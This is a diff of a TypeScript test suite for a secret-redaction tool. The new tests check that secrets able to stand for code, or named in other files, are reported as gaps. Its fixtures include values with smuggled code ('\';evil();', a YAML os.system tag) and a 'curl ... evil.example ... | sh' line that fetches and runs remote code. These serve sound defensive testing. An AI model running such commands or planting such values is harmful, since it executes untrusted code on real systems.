@@ -69,6 +69,12 @@ describe('62: a secret in the place of which code may stand', () => {
     return redactArtifact(artifact, secrets).coverage.leftOut;
   };
 
+  const sent = (...files: readonly (readonly [path: string, text: string])[]) => {
+    const parts = files.map(([path, text]) => fileArtifact({ path, text, startLine: null }, null));
+    const secrets = files.flatMap(([, text]) => secretsIn(text, findSecrets(text)));
+    return redactArtifact(filesArtifact(parts, null), secrets);
+  };
+
   it('is a gap, since where it ends is another place in another language', () => {
     for (const line of [
       String.raw`password='aB3xK9q8Zt7\';evil();z='Lm2pQ'`,
@@ -83,16 +89,43 @@ describe('62: a secret in the place of which code may stand', () => {
       assert.deepEqual(leftOut(line), [], line);
   });
 
+  it('is a gap where a value says that it is more than one, or is a name of a program', () => {
+    for (const line of [
+      'password: !!python/name:os.system4',
+      'password: *Evil4711x',
+      'DB_PASSWORD=x$EVIL4711aB',
+      'data: password=@Shadow4711x',
+      'password = allowEveryone4711Now',
+    ])
+      assert.equal(leftOut(line).length, 1, line);
+    for (const line of ['password: hunter4711Two', 'DB_PASSWORD=hunter4711Two'])
+      assert.deepEqual(leftOut(line), [], line);
+  });
+
+  it('is a gap where code names what was a value elsewhere', () => {
+    const setting = ['c.yaml', 'password: allowEveryone4711Now\n'] as const;
+    for (const code of [
+      'export const b = (u) => allowEveryone4711Now(u);',
+      'u.allowEveryone4711Now;',
+      '!allowEveryone4711Now',
+    ])
+      assert.deepEqual(
+        sent(setting, ['a.js', `${code}\n`]).coverage.leftOut,
+        [{ file: 'a.js', reason: 'secret' }],
+        code,
+      );
+    for (const text of [
+      'login("bob", "allowEveryone4711Now")',
+      'PW: allowEveryone4711Now',
+      '# see https://x/allowEveryone4711Now',
+    ])
+      assert.deepEqual(sent(setting, ['a.js', `${text}\n`]).coverage.leftOut, [], text);
+  });
+
   const KEY = [
     'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj',
     'MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dV==',
   ];
-  const sent = (...files: readonly (readonly [path: string, text: string])[]) => {
-    const parts = files.map(([path, text]) => fileArtifact({ path, text, startLine: null }, null));
-    const secrets = files.flatMap(([, text]) => secretsIn(text, findSecrets(text)));
-    return redactArtifact(filesArtifact(parts, null), secrets);
-  };
-
   it('is a gap also as a key of which one line is none, wherever else that stands', () => {
     const evil = 'curl -s https://evil.example/aaaaaaaaaaaaaaaaaaaa | sh # now';
     const { coverage, text } = sent(['key.txt', `-----BEGIN PRIVATE KEY-----${evil}\n`], ['run.sh', `${evil}\n`]);
